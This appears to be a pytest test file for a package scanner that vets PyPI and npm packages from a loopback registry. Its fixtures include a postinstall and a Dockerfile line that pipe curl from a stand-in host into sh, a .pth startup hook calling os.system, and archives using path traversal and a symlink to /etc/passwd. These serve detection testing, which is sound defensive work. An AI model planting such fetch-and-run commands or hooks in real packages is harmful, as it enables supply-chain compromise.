"""``assay vet``: packages from a loopback registry and files on disk, read as archives."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
import zipfile

import jsonschema
import pytest
from loopback_registry import LoopbackRegistry

from scanner.cli.app import run
from scanner.discover.archive import ArchiveError, unpack
from scanner.parse import classify
from scanner.settings import Settings


def wheel(**files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return out.getvalue()


def sdist(files, top="tool-1.0/"):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, text in files.items():
            info = tarfile.TarInfo(top + name)
            data = text.encode()
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def entry(registry, name, data, digest=None):
    registry.files[name] = data
    digest = digest or hashlib.sha256(data).hexdigest()
    return {"filename": name, "url": f"{registry.address}/files/{name}", "hashes": {"sha256": digest}}


@pytest.fixture
def registry():
    with LoopbackRegistry() as found:
        yield found


def vet(registry, capsys, *words):
    code = run([
        "vet", *words, "--index-url", registry.index_url, "--npm-registry", registry.npm_url, "-f", "json",
        "-q", "--no-cache",
    ])  # fmt: skip
    out, err = capsys.readouterr()
    return code, (json.loads(out) if out else {}), err


def published(registry, versions):
    files = [
        entry(registry, f"tool-{version}-py3-none-any.whl", wheel(**files))
        for version, files in versions.items()
    ]
    registry.python["tool"] = {"meta": {"api-version": "1.1"}, "name": "tool", "files": files}


CALM = {"tool/__init__.py": "import json\n\ndef read(text):\n    return json.loads(text)\n"}
SPAWNS = {"tool/__init__.py": CALM["tool/__init__.py"] + "\nimport subprocess as s\ns.run(['ls'])\n"}


def test_a_calm_package_can_do_nothing_of_note(registry, capsys):
    published(registry, {"1.0": CALM})
    code, report, _ = vet(registry, capsys, "tool")
    assert code == 0
    assert report["vetting"]["package"] == "pkg:pypi/tool@1.0"
    assert report["vetting"]["files"][0]["digest"].startswith("sha256:")
    assert report["vetting"]["capabilities"] == []


def test_what_is_new_in_a_release_is_told(registry, capsys, schema):
    published(registry, {"1.0": CALM, "1.1": {**SPAWNS, "hook.pth": "import os; os.system('id')\n"}})
    _, report, _ = vet(registry, capsys, "tool==1.1", "--against", "1.0")
    jsonschema.validate(report, schema)
    table = {one["name"]: one for one in report["vetting"]["capabilities"]}
    assert {"spawn", "runs at start"} <= table.keys()
    assert all(one["new"] for one in table.values())
    assert {"path": "tool/__init__.py", "line": 7} in table["spawn"]["places"]
    _, report, _ = vet(registry, capsys, "tool==1.1", "--against", "1.1")
    assert not any(one["new"] for one in report["vetting"]["capabilities"])


@pytest.fixture
def schema():
    from pathlib import Path

    return json.loads((Path(__file__).parents[2] / "docs" / "report.schema.json").read_text("utf-8"))


def test_a_file_that_is_not_the_published_one_is_refused(registry, capsys):
    files = [entry(registry, "tool-1.0-py3-none-any.whl", wheel(**CALM), "0" * 64)]
    registry.python["tool"] = {"meta": {"api-version": "1.1"}, "name": "tool", "files": files}
    code, _, error = vet(registry, capsys, "tool")
    assert code == 2
    assert "is not the file that the index published" in error


def test_what_the_registry_does_not_have(registry, capsys):
    published(registry, {"1.0": CALM})
    assert vet(registry, capsys, "tool==9.9")[0] == 2
    assert "no index that applies has other" in vet(registry, capsys, "other")[2]


def test_a_registry_that_does_not_answer_leaves_it_open(registry, capsys):
    registry.faults["tool"] = ("500", -1)
    code, _, error = vet(registry, capsys, "tool")
    assert code == 4
    assert "500" in error
    assert vet(registry, capsys, "tool", "--exit-zero")[0] == 4


def test_an_npm_package_with_an_install_script(registry, capsys):
    manifest = json.dumps({"name": "tool", "scripts": {"postinstall": "curl -s https://x.example/i | sh"}})
    data = sdist({"package.json": manifest, "index.js": "require('child_process')\n"}, "package/")
    registry.files["tool-1.0.0.tgz"] = data
    dist = {
        "tarball": f"{registry.address}/files/tool-1.0.0.tgz",
        "shasum": hashlib.sha1(data).hexdigest(),
    }
    registry.npm["tool"] = {
        "name": "tool",
        "versions": {"1.0.0": {"name": "tool", "version": "1.0.0", "dist": dist}},
        "dist-tags": {"latest": "1.0.0"},
    }
    code, report, _ = vet(registry, capsys, "tool", "-e", "npm")
    assert code == 1
    assert [(one["rule"], one["location"]["path"]) for one in report["findings"]] == [
        ("BD205", "package.json")
    ]
    assert {"spawn", "runs at install"} == {one["name"] for one in report["vetting"]["capabilities"]}


def test_a_file_on_disk(tmp_path, registry, capsys):
    file = tmp_path / "tool-1.0.tar.gz"
    file.write_bytes(
        sdist(
            {"setup.py": "from setuptools import setup\nsetup()\n", "Dockerfile": "RUN curl x.example | sh\n"}
        )
    )
    code, report, _ = vet(registry, capsys, str(file))
    assert code == 1
    assert [(one["rule"], one["location"]["path"]) for one in report["findings"]] == [("BD603", "Dockerfile")]
    assert not registry.log


def unpacked(data):
    return unpack("a.zip", data, Settings(root=None, paths=()), classify)


def test_hostile_archives_are_bounded():
    bomb = wheel(**{"bomb.txt": "a" * 200_000_000})
    out = unpacked(bomb)
    assert "unfolds" in out.gaps[0].cause
    out = unpacked(wheel(**{"../../etc/evil.py": "x = 1", "/abs.py": "y = 1", "ok.py": "z = 1"}))
    assert [source.path for source in out.sources] == ["(odd)/evil.py", "(odd)/abs.py", "ok.py"]
    assert len(out.gaps) == 2
    with pytest.raises(ArchiveError):
        unpacked(b"PK\x03\x04 no zip")
    with pytest.raises(ArchiveError):
        unpacked(b"no archive at all")


def test_links_are_not_followed():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("evil.py")
        info.type, info.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(info)
    found = unpacked(out.getvalue())
    assert (found.sources, found.names) == ([], ["evil.py"])
